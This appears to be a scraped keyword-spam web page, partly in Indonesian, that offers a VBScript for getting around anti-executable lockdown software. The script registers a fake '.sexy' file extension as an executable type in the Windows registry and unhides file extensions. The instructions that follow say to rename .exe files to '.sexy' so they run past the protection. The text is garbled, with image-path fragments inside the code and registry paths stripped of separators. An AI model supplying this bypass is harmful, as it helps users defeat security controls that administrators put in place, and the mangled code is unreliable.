CARA BOBOL ANTI EXECUTABLE ALERT On this site you will find valuable complete information about the CARA BOBOL ANTI EXECUTABLE ALERT that may have been many scattered from internet
but here the information will always be CARA BOBOL ANTI EXECUTABLE ALERT update from days to days or years to years.
Avaliable topic CARA BOBOL ANTI EXECUTABLE ALERT in here. Just please bookmark this site because people often forget the many who have visited the website.

Therefore a lot of software to make a bookmark automatically but we recommend that you use in a way can ctrlD
This CARA BOBOL ANTI EXECUTABLE ALERT topic will be discussed thoroughly so you will take a very long time to be quite gather this information.

then please visit your site's main page because we will be there, CARA BOBOL ANTI EXECUTABLE ALERT you get information about the CARA BOBOL ANTI EXECUTABLE ALERT
after Download you can save directly to your computer.

thx for visiting us

const HKEY_CLASSES_ROOT = &H80000000
const HKEY_CURRENT_USER = &H80000001
QUOT = chr(34)
strComputer = “.”
On error resume next
Tanya = MsgBox(”By Pass Exelockdown dengan Registry Shell Spawning”& _
vbNewLine & “Reset Exelockdown?”, 36,”Exelockdown Hacking – by Lovepassword”)
If Tanya = 6 Then ‘Bila dipilih YA
Set objRegistry = GetObject(”winmgmts:{impersonationLevel=impersonat e}!\” &strComputer & ” ootdefault:StdRegProv”)
objRegistry.CreateKey HKEY_CLASSES_ROOT, “.sexy”
objRegistry.SetStringValue HKEY_CLASSES_ROOT,”.sexy”,,”exefile”
objRegistry.SetStringValue HKEY_CLASSES_ROOT,”.sexy”,”Content Type”,”application/x-msdownload”
objRegistry.CreateKey HKEY_CLASSES_ROOT, “.sexyPersistentHandler”
objRegistry.SetStringValue HKEY_CLASSES_ROOT,”.sexyPersistentHandler”,,”{098f 2470-bae0-11cd-b579-08002b30bfeb}”
objRegistry.CreateKey HKEY_CURRENT_USER, “SoftwareMicrosoftWindowsCurrentVersionExplorerAdv anced”
objRegistry.SetDWORDValue HKEY_CURRENT_USER,”SoftwareMicrosoftWindowsCurrent VersionExplorerAdvanced”,”HideFileExt”,0
Set objWMIService = GetObject(”winmgmts:” _
&“{impersonationLevel=impersonate}!\” & strComputer & ” ootcimv2?)
Set colProcessList = objWMIService.ExecQuery _
(”SELECT * FROM Win32_Process WHERE Name = ‘explorer.exe’”)
For Each objProcess in colProcessList
set objShell = createobject(”Wscript.Shell”)
objShell.Run “explorer.exe”
msgbox “Copi file exe, renamemenjadi file sexy, lalu jalankan”,vbInformation,”Exelockdown Hacking – by 060183”
End If

Silakan copy paste di notepad lalu pilih all files dan simpan dengan extensi .vbs.. jalankan…
Kemudian ubah extensi file .exe jadi .sexy Makaanda selamat dari pencekalansoftware anti executable.contoh seperti aplikasininja.exe klo kita inginjalankan harus di ubah ekstensi nya jadi